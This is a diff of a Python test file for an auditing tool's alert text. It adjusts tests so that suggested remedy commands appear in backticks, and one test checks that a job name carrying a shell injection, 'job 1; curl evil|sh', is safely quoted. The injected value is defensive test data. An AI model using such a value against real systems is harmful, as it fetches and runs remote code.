@@ -52,7 +52,7 @@ def steps(world: World) -> list[str]:
     assert isinstance(found, Alert)
     flat = " ".join(found.body.partition("WHAT TO DO")[2].partition("THE RECORD")[0].split())
     advised = remedies(world.content("job"))
-    assert all(each[:250] in flat for each in advised), "the alert shows what is advised"
+    assert all(each.replace("`", "")[:250] in flat for each in advised), "the alert shows what is advised"
     return advised
 
 
@@ -126,8 +126,8 @@ def test_an_arn_that_a_shell_would_read_is_quoted_in_every_command() -> None:
     content = renamed(doubted(hours=3000).content("job"), "job 1; curl evil|sh")
     advised = [each for each in remedies(content) if BETTER in each]
     assert advised == [
-        "Give better evidence: flops-auditor amend 'job 1; curl evil|sh' --who NAME --why REASON --tokens NUMBER "
-        "--parameters NUMBER."
+        "Give better evidence: `flops-auditor amend 'job 1; curl evil|sh' --who NAME --why REASON --tokens NUMBER "
+        "--parameters NUMBER`"
     ]
     found = compose(content)
     assert found is not None
